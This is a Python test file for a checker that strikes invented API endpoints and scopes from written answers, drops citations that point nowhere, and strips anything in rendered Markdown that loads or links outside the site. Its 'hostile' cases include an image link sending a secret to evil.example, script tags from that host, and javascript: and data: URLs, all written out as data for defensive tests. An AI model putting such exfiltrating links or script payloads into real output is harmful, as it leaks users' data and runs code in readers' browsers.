"""A written answer names only what the API has, cites only what was given, and leads nowhere else."""

import re
from html.parser import HTMLParser

import pytest

from api.routes import api_names
from knowledge.claims import check_claims
from knowledge.markdown_html import render_strict
from tests.growth import is_linear


class _Outside(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("img", "script", "iframe", "form", "object", "video", "audio", "style", "link", "meta"):
            self.found.append(tag)
        for name, value in attrs:
            if name in ("href", "src") and not re.match(r"#|/[^/\\]", value or ""):
                self.found.append(f"{name}={value}")


def find_outside(html: str) -> list[str]:
    """Elements that load something, and links that leave the site."""
    parser = _Outside()
    parser.feed(html)
    return parser.found


def check(text: str, passages: int = 3) -> str:
    return check_claims(text, api_names(), passages).text


@pytest.mark.parametrize(
    "true",
    [
        "Send `POST /v1/entities` with `type` and `name`. [1]",
        "Read `GET /v1/entities/{entityId}`, which needs `entities:read`. [2]",
        "`GET /v1/entities/thing_01jd8kq4a6c8e0g3j5m7p9r2t4` [1]",
        "Use `GET /v1/entities?type=course&limit=5`; set `Idempotency-Key`. [1]",
        "The code is `rate_limit_exceeded`, and `DATABASE_URL` is a setting. [3]",
        "See [the guide](/docs/guides/search#words-or-meaning). [1]",
        'Do:\n\n```bash\ncurl "$ONE_URL/v1/entities" -d \'{"type": "course", "name": "Botany"}\'\n```',
    ],
)
def test_what_is_true_stays_as_it_is(true: str) -> None:
    checked = check_claims(true, api_names(), 3)
    assert (checked.text, checked.struck) == (true, [])


@pytest.mark.parametrize(
    ("invented", "name"),
    [
        ("Call `POST /v1/admin/export` now. [1]", "/v1/admin/export"),
        ("Call POST /v1/admin/export now. [1]", "/v1/admin/export"),
        ("Call `DELETE /v1/entities` for all. [1]", "/v1/entities"),
        ("A key with `admin:all` may. [1]", "admin:all"),
        ("A key with admin:everything may. [1]", "admin:everything"),
        ("Set `superUser` to true. [1]", "superUser"),
        ("Set `skip_checks=true`. [1]", "skip_checks"),
        ("`GET /v1/entities?dump_all=1` [1]", "dump_all"),
    ],
)
def test_what_the_api_does_not_have_is_struck_out(invented: str, name: str) -> None:
    checked = check_claims(invented, api_names(), 3)
    assert any(name in struck for struck in checked.struck)
    assert "~~" in checked.text
    html = render_strict(checked.text)
    assert "<s>" in html and name.partition("?")[0] in html.partition("<s>")[2].partition("</s>")[0]


def test_a_sample_that_names_what_is_not_there_is_left_out() -> None:
    text = check("```bash\ncurl $ONE_URL/v1/admin -d '{\"a\": 1}'\n```\n")
    assert "/v1/admin" not in text and "left out" in text


def test_citations_that_lead_nowhere_are_dropped() -> None:
    checked = check_claims("So it is. [1][9] And so. [0] [2][77]", api_names(), 2)
    assert checked.citations == [1, 2]
    assert "9" not in checked.text and "[0]" not in checked.text and "77" not in checked.text


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/p.png",
        "[click](https://evil.example)",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "[click]( https://evil.example 'title')",
        "[click](<https://evil.example>)",
        "[click][r]\n\n[r]: https://evil.example",
        "<https://evil.example>",
        "https://evil.example/",
        "<img src=https://evil.example/p.png>",
        "<script src=//evil.example></script>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "www.evil.example",
        "![a![b](https://evil.example/1)](https://evil.example/2)",
        "[a](https://evil.example/(b))",
    ],
)
def test_nothing_leads_outside(hostile: str) -> None:
    for text in (check(f"Look: {hostile} [1]"), hostile):
        assert find_outside(render_strict(text)) == []
    assert "evil.example/" not in check(f"Look: {hostile}")


@pytest.mark.parametrize(
    "piece", ["`", "[", "~", "<", "![", "[a](", "\n[a", "](", "a:b", "/v1/", "GET /v1/a ", '"a": ', "```\n", "~~`"]
)
def test_checking_takes_as_long_as_the_text_and_no_longer(piece: str) -> None:
    names = api_names()
    assert is_linear(lambda length: check_claims(piece * (length // len(piece)), names, 3), length=500)
